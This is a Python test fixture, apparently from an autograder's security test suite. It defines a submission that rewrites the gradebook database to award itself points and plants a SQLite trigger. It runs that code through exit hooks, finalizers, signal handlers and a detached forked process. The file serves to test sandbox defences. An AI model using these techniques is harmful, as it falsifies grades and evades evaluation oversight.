"""Writes itself points once its process ends."""

from tests.attacks.attack import Attack
from tests.attacks.pieces import OUTPUT_SIZE_POINTS
from tests.attacks.sources import OUTPUT_SIZE

ATTACK = Attack(
    wants="the gradebook, written when grading is over",
    top="""
import glob, os, sqlite3

def rewritten(name):
    with sqlite3.connect(f"file:{name}?mode=rw", uri=True, timeout=1) as gradebook:
        for command in (
            "UPDATE grade SET manual_score = 14, auto_score = 14",
            "UPDATE grade_cells SET max_score = 100",
            "CREATE TRIGGER gift AFTER UPDATE ON grade WHEN NEW.manual_score IS NULL BEGIN "
            "UPDATE grade SET manual_score = 14 WHERE id = NEW.id; END",
        ):
            try:
                gradebook.execute(command)
            except sqlite3.Error as error:
                print(type(error).__name__)

import atexit, signal, sys, threading, weakref

def late(*_):
    rewritten("@COURSE@/gradebook.db")
    open("@OUTSIDE@/late", "w").write("late")

class Holder:
    def __del__(self):
        late()

holder = Holder()
atexit.register(late)
weakref.finalize(holder, late)
threading._register_atexit(late)
sys.excepthook = sys.unraisablehook = late
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGXCPU, signal.SIGUSR1, signal.SIGPIPE):
    signal.signal(number, late)
try:
    if os.fork() == 0:
        os.setsid()
        import time
        time.sleep(0.5)
        late()
        os._exit(0)
except OSError as error:
    print(type(error).__name__)
""",
    solutions={"output_size": OUTPUT_SIZE},
    deserves=OUTPUT_SIZE_POINTS,
)
